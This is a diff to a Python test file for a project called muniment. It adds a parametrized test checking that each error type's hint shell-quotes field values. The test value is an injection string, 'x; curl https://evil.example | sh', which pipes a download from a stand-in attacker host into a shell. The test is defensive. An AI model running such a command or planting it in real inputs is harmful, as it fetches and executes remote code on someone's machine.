@@ -2,6 +2,7 @@
 
 import errno
 import pickle
+import re
 import sqlite3
 from collections.abc import Callable
 from pathlib import Path
@@ -33,6 +34,7 @@ from muniment.core.errors import (
     VersionNotFound,
     list_errors,
 )
+from muniment.core.errors.tree import REMEDY
 from muniment.core.events import AttestationRecorded
 from muniment.core.names import Reference
 from muniment.core.payloads import MAX_TEXT_CHARACTERS, Payload
@@ -212,6 +214,19 @@ CODES = """
 def test_codes_are_stable() -> None:
     """The list of refusal codes is the pinned one."""
     assert sorted(kind.code for kind in list_errors() if kind is not MunimentError) == CODES.split()
+
+
+EVIL = "x; curl https://evil.example | sh"
+
+
+@pytest.mark.parametrize("kind", [kind for kind in list_errors() if kind is not MunimentError])
+def test_a_hint_is_no_command_of_somebody_else(kind: type[MunimentError]) -> None:
+    """A hint quotes what it names as a shell does, so that whoever types it runs what we say."""
+    types = {name: hint for one in kind.__mro__ for name, hint in getattr(one, "__annotations__", {}).items()}
+    values: dict[object, object] = {str: EVIL, int: 3, float: 3.0, bool: True, tuple[str, ...]: (EVIL,)}
+    named = [name for name in kind.fields if name != REMEDY]
+    error = kind(**{name: values.get(types[name], EVIL) for name in named})
+    assert "evil" not in re.sub(r"'[^']*'", "", error.hint)
 
 
 def test_a_refusal_crosses_a_process() -> None:
